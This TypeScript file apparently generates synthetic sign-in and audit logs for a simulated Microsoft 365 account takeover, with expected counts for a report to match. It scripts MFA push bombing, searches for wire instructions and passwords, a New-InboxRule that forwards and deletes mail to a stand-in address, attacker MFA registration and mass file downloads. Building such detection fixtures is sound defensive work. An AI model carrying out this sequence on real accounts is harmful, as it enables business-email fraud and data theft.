import { HOUR, MINUTE, SECOND, type EpochMs } from '../base/units';
import type { Act, Person, Source } from './acts';
import { cmdlet, directory, file, mailAccess, search, sessionOf, userTarget } from './activity';
import type { Random } from './random';
import { challenged, keepSignedIn, prompted, silent, wrongPassword } from './sign-ins';
import { apps, type PromptOutcome } from './sign-in-texts';

/** The five stages of the attack on one person; times count from the first prompt (T). */
export interface Attack {
  acts: Act[];
  person: Person;
  source: Source;
  /** AADSessionId of the attacker. */
  sessionId: string;
  /** First prompt. */
  start: EpochMs;
  /** When the approval was given: the step's time. */
  approved: EpochMs;
  /** What a report must count. */
  counts: {
    wrongPasswords: number;
    prompts: number;
    denied: number;
    timedOut: number;
    approved: number;
    files: number;
  };
  forwardTo: string;
}

/** Where among the 19 unanswered or refused prompts nobody answered. */
const timeouts = new Set([2, 6, 9, 13, 17]);
const FILES = 500;
/** From the last prompt to its approval. */
const ANSWER_MS = 3_200;

const matters = [
  'Merger Halvorsen',
  'Estate 4471',
  'Lease Pier 9',
  'Arbitration Quay',
  'Payroll 2026',
  'Escrow',
  'Board minutes',
  'Tax 2025',
];
const papers = [
  'Engagement letter',
  'Closing statement',
  'Wire instructions',
  'Term sheet',
  'Signature pages',
  'Ledger',
  'Exhibit',
  'Draft opinion',
  'Schedule',
  'Invoice',
];
const endings = ['docx', 'pdf', 'xlsx', 'msg'];

/** @param start time of the first prompt. */
export function walkthrough(random: Random, person: Person, source: Source, start: EpochMs): Attack {
  const acts: Act[] = [];
  const sessionId = random.guid();

  // Recon: five guesses between T-20 and T-15 min.
  for (let i = 0; i < 5; i++)
    acts.push(
      wrongPassword(random, start - 20 * MINUTE + i * 75 * SECOND + random.int(4_000), person, source),
    );

  // Push bombing: the right password, then 19 prompts refused or left alone, some 9 s apart, four flows.
  let correlationId = random.guid();
  acts.push(challenged(random, start - 15 * SECOND, person, source, { correlationId, sessionId }));
  let time = start;
  let denied = 0;
  for (let i = 0; i < 19; i++) {
    if (i > 0 && i % 5 === 0) correlationId = random.guid();
    const outcome: PromptOutcome = timeouts.has(i) ? 'timeout' : 'denied';
    if (outcome === 'denied') denied++;
    acts.push(
      prompted(random, time, person, source, outcome, {
        correlationId,
        sessionId,
        answerMs: 1_500 + random.int(3_000),
      }),
    );
    time += 9 * SECOND + random.int(900);
  }

  // Access gained: the twentieth is approved.
  const approval = prompted(random, time + 4 * SECOND, person, source, 'approved', {
    correlationId,
    sessionId,
    answerMs: ANSWER_MS,
  });
  const session = sessionOf(approval);
  acts.push(
    approval,
    keepSignedIn(random, approval.time + 9 * SECOND, person, source, { correlationId, sessionId }),
  );
  const tokens = [apps.outlookWeb, apps.sharepoint, apps.graph, apps.office, apps.securityInfo];
  for (const [i, app] of tokens.entries())
    acts.push(
      silent(random, approval.time + (1 + 4 * i) * MINUTE, person, source, { app, resource: app, sessionId }),
    );

  // Recon post-access: mail read, searches, the rule, a phone of the attacker's own.
  const at = (minutes: number): EpochMs => start + minutes * MINUTE + random.int(20_000);
  for (const minutes of [6, 7, 8, 10, 12, 13])
    acts.push(mailAccess(random, at(minutes), session, 8 + random.int(6)));
  for (const [minutes, query] of [
    [9, 'wire instructions'],
    [10.5, 'invoice'],
    [12.5, 'password'],
  ] as const)
    acts.push(search(random, at(minutes), session, query, 'Finance'));
  const forwardTo = 'fin.desk.9917@freemail.example';
  acts.push(
    cmdlet(random, start + 15 * MINUTE, session, 'New-InboxRule', '.', {
      AlwaysDeleteOutlookRulesBlob: 'False',
      Force: 'False',
      Name: '.',
      ForwardTo: forwardTo,
      DeleteMessage: 'True',
      StopProcessingRules: 'True',
    }),
    directory(random, start + 19 * MINUTE, { person, ip: source.ip }, [userTarget(person)], {
      activity: 'User registered security info',
      service: 'Authentication Methods',
      reason: 'User registered Authenticator App with Notification and Code',
      details: [{ key: 'AuthenticationMethod', value: 'Authenticator App' }],
    }),
  );

  // Exfiltration: 500 different files in two hours from T+25 min.
  for (let i = 0; i < FILES; i++) {
    const matter = matters[i % matters.length]!;
    const paper = papers[Math.floor(i / matters.length) % papers.length]!;
    acts.push(
      file(
        random,
        start + 25 * MINUTE + Math.floor((i * 2 * HOUR) / FILES) + random.int(9_000),
        session,
        'FileDownloaded',
        {
          site: i % 3 === 0 ? 'Finance' : 'Matters',
          folder: `Shared Documents/${matter}`,
          fileName: `${paper} ${100 + i}.${endings[i % endings.length]!}`,
        },
      ),
    );
  }
  return {
    acts,
    person,
    source,
    sessionId,
    start,
    approved: approval.time + ANSWER_MS,
    counts: { wrongPasswords: 5, prompts: 20, denied, timedOut: timeouts.size, approved: 1, files: FILES },
    forwardTo,
  };
}
